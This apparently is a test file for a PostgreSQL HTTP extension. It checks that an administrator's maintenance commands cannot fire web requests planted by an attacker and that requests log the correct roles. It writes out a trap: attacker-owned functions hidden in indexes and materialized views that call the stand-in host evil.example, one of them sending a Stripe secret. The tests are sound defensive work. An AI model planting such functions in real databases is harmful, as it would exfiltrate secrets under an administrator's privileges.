import { describe, expect, test } from 'vitest';
import { closedAfterEach } from '../support/opened.ts';
import { availableMajors } from '../support/servers.ts';
import { attempt, openStage } from './stage.ts';

// The documented functions record the login and the role that was SET: nobody gets those of somebody else.

const asked = `
  select login_role::regrole::text as login, set_role::regrole::text as set, url
  from net.http_request_queue where url like 'http://evil.example/%' order by id`;

describe.each(availableMajors())('PostgreSQL %i', (major) => {
  const opened = closedAfterEach();

  test('what maintenance runs as the owner of a table does not ask as whoever maintains it', async () => {
    const stage = await openStage(opened, major);
    const { admin, attacker } = stage;
    await admin.query(`
      create schema evil authorization attacker;
      insert into net.policy (role, host) values ('attacker', 'only.example')`);
    const call: Record<string, string> = {
      http_get: `net.http_get('http://evil.example/')`,
      http_post: `net.http_post('http://evil.example/')`,
      http_delete: `net.http_delete('http://evil.example/')`,
      http_put: `net.http_put('http://evil.example/')`,
      http_head: `net.http_head('http://evil.example/')`,
      // Bound to roles, whatever net.policy says.
      secret: `net.http_get('http://evil.example/', headers := '{"A": "{{secret.stripe}}"}')`,
    };
    for (const [name, statement] of Object.entries(call)) {
      // Harmless while its owner looks: immutable, and nothing is sent.
      await attacker.query(`
        create function evil.${name}(i int) returns int language plpgsql immutable as $$ begin
          if session_user <> 'attacker' then perform ${statement}; end if; return i; end $$;
        create materialized view evil.view_${name} as select evil.${name}(1);
        create table evil.table_${name} (i int); create index index_${name} on evil.table_${name} (evil.${name}(i));
        insert into evil.table_${name} values (1)`);
    }
    for (const policy of ['bound', 'not bound']) {
      if (policy === 'not bound') await admin.query('delete from net.policy; select net._has_policies()');
      const names = policy === 'bound' ? Object.keys(call) : ['secret'];
      for (const name of names) {
        for (const maintenance of [
          `refresh materialized view evil.view_${name}`,
          `analyze evil.table_${name}`,
          `reindex table evil.table_${name}`,
        ]) {
          const outcome = await attempt(admin, maintenance);
          expect(outcome, maintenance).toMatch(/^42501: net\.http_\w+ cannot tell for whom/);
          expect(outcome).not.toMatch(/stripe|evil\.example/);
        }
      }
    }
    expect((await admin.query(asked)).rows).toEqual([]);
    // Who asks itself is not disturbed.
    await admin.query(`select ${Object.values(call).join(', ')}`);
    expect((await admin.query(asked)).rows).toHaveLength(6);
  });

  test('a role that has got the name of the one that was SET does not ask', async () => {
    const stage = await openStage(opened, major);
    const { admin, attacker } = stage;
    await admin.query('create role test_lent; create role test_other; grant test_lent to attacker');
    try {
      await attacker.query(`set role test_lent; select net.http_get('http://evil.example/')`);
      await admin.query('alter role test_lent rename to test_past; alter role test_other rename to test_lent');
      await attacker.query(`select net.http_get('http://evil.example/')`);
      await admin.query('drop role test_past');
      await attacker.query(`reset role; select net.http_get('http://evil.example/')`);
      await admin.query('drop role test_lent');
      const { rows } = await admin.query(asked);
      expect(rows.map(({ login, set }) => [login, set === null])).toEqual([
        ['attacker', false],
        ['attacker', true],
        ['attacker', true],
      ]);
    } finally {
      await admin.query('drop role if exists test_lent, test_past, test_other');
    }
  });
});
